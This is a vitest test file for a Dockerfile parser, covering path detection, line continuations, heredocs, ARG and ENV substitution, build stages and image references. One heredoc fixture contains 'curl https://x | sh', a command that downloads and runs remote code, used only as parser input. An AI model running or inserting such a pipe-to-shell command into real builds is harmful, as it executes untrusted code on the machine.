import { describe, expect, it } from 'vitest';
import { argDeclarations, externalBaseImages, finalStage, isDockerfilePath, keyValuePairs, parseDockerfile, parseImageReference, stageVariables, substituteVariables } from './dockerfile.js';
import { file } from './testing.js';

describe('isDockerfilePath', () => {
  it.each([
    ['Dockerfile', true],
    ['services/api/Dockerfile', true],
    ['Dockerfile.prod', true],
    ['build/api.Dockerfile', true],
    ['Containerfile', true],
    ['dockerfile', true],
    ['Dockerfile.dockerignore', false],
    ['docs/Dockerfile.md', false],
    ['Dockerfiles/README', false],
    ['src/dockerfile.ts', false],
  ])('%s → %s', (path, expected) => {
    expect(isDockerfilePath(path)).toBe(expected);
  });
});

describe('parseDockerfile', () => {
  it('joins continuations, drops comments and keeps the first line number', () => {
    const parsed = parseDockerfile(file('Dockerfile', '# syntax=docker/dockerfile:1', 'FROM alpine:3.20', '', 'RUN apk add --no-cache curl \\', '    # a comment inside', '    && echo done', 'USER app'));
    expect(parsed.instructions).toEqual([
      { keyword: 'FROM', args: 'alpine:3.20', line: 2 },
      { keyword: 'RUN', args: 'apk add --no-cache curl     && echo done', line: 4 },
      { keyword: 'USER', args: 'app', line: 7 },
    ]);
  });

  it('honours the escape directive', () => {
    const parsed = parseDockerfile(file('Dockerfile', '# escape=`', 'FROM mcr.microsoft.com/windows/servercore:ltsc2022', 'RUN dir `', '  C:\\'));
    expect(parsed.instructions[1]).toEqual({ keyword: 'RUN', args: 'dir   C:\\', line: 3 });
  });

  it('keeps heredoc bodies with their instruction instead of reading them as instructions', () => {
    const parsed = parseDockerfile(file('Dockerfile', 'FROM debian:12', 'RUN <<EOF', 'FROM evil', 'curl https://x | sh', 'EOF', 'USER 1000'));
    expect(parsed.instructions.map((instruction) => instruction.keyword)).toEqual(['FROM', 'RUN', 'USER']);
    expect(parsed.instructions[1]?.args).toBe('<<EOF\nFROM evil\ncurl https://x | sh');
    expect(parsed.instructions[2]?.line).toBe(6);
  });

  it('does not take a shift operator for a heredoc', () => {
    const parsed = parseDockerfile(file('Dockerfile', 'FROM alpine:3', 'RUN echo $((x<<y))', 'USER app'));
    expect(parsed.instructions.map((instruction) => instruction.keyword)).toEqual(['FROM', 'RUN', 'USER']);
  });

  it('substitutes global ARG defaults into FROM and tells stages from images', () => {
    const parsed = parseDockerfile(
      file('Dockerfile', 'ARG NODE_VERSION=20.11', 'ARG REGISTRY', 'FROM --platform=$BUILDPLATFORM node:${NODE_VERSION}-alpine AS Build', 'RUN npm ci', 'FROM build AS test', 'FROM ${REGISTRY}/base:1', 'FROM scratch', 'COPY --from=build /app /app'),
    );
    expect(parsed.stages.map((stage) => [stage.name, stage.from.kind, stage.from.reference, stage.from.unresolved])).toEqual([
      ['build', 'image', 'node:20.11-alpine', []],
      ['test', 'stage', 'build', []],
      [undefined, 'image', '${REGISTRY}/base:1', ['REGISTRY']],
      [undefined, 'scratch', 'scratch', []],
    ]);
    expect(parsed.stages[1]?.parent?.name).toBe('build');
    expect(externalBaseImages(parsed).map((base) => base.line)).toEqual([3, 6]);
    expect(finalStage(parsed)?.instructions).toEqual([{ keyword: 'COPY', args: '--from=build /app /app', line: 8 }]);
  });

  it('has no stages without FROM', () => {
    expect(parseDockerfile(file('Dockerfile', '# empty')).stages).toEqual([]);
  });

  it('reads a 100 KB hostile line quickly', () => {
    const hostile = `FROM ${'${a:-'.repeat(20_000)}\nENV ${'A="'.repeat(30_000)}\nRUN ${'\\'.repeat(100_000)}`;
    const started = performance.now();
    parseDockerfile(file('Dockerfile', hostile));
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

describe('parseImageReference', () => {
  it.each([
    ['node', { name: 'node' }],
    ['node:20-alpine', { name: 'node', tag: '20-alpine' }],
    ['localhost:5000/team/app:1.2', { name: 'localhost:5000/team/app', tag: '1.2' }],
    ['ghcr.io/acme/app@sha256:abc', { name: 'ghcr.io/acme/app', digest: 'sha256:abc' }],
    ['node:20@sha256:abc', { name: 'node', tag: '20', digest: 'sha256:abc' }],
  ])('%s', (reference, expected) => {
    expect(parseImageReference(reference)).toEqual(expected);
  });
});

describe('variables', () => {
  it('substitutes the documented forms and lists unresolved names', () => {
    const values = new Map([['A', 'x'], ['EMPTY', ''], ['UNSET', undefined]]);
    expect(substituteVariables('$A ${A} ${EMPTY:-d} ${UNSET:-d} ${A:+alt} ${UNSET:+alt} $UNSET ${NOPE}', values)).toEqual({ text: 'x x d d alt  $UNSET ${NOPE}', unresolved: ['UNSET', 'NOPE'] });
  });

  it('reads ENV pairs in both forms and ARG declarations', () => {
    expect(keyValuePairs('A=1 B="two words" C=three\\ words')).toEqual([
      { key: 'A', value: '1' },
      { key: 'B', value: 'two words' },
      { key: 'C', value: 'three words' },
    ]);
    expect(keyValuePairs('LEGACY value with spaces')).toEqual([{ key: 'LEGACY', value: 'value with spaces' }]);
    expect(argDeclarations('VERSION=1.2 TOKEN')).toEqual([
      { key: 'VERSION', value: '1.2' },
      { key: 'TOKEN', value: undefined },
    ]);
  });

  it('gives a stage its ENV, inherited ENV and redeclared global ARGs', () => {
    const parsed = parseDockerfile(file('Dockerfile', 'ARG UID=1001', 'FROM alpine:3 AS base', 'ENV APP_USER=app', 'FROM base', 'ARG UID', 'ARG OTHER'));
    const last = finalStage(parsed);
    expect(last === undefined ? [] : [...stageVariables(parsed, last)]).toEqual([
      ['APP_USER', 'app'],
      ['UID', '1001'],
      ['OTHER', undefined],
    ]);
  });
});
